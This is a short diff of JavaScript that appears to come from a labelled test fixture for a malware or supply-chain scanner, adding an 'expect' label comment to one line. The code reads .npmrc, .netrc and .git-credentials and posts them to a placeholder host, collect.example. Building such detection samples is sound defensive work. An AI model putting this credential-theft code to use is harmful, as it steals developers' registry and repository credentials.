@@ -9,5 +9,5 @@ const read = (name) => {
   }
 };
 const found = ['.npmrc', '.netrc', '.git-credentials'].map(read);
-const out = request({ hostname: 'collect.example', path: '/r', method: 'POST' });
+const out = request({ hostname: 'collect.example', path: '/r', method: 'POST' }); // expect: malicious-command/lifecycle-script
 out.end(JSON.stringify(found)); // expect: data-exfiltration/credential-file
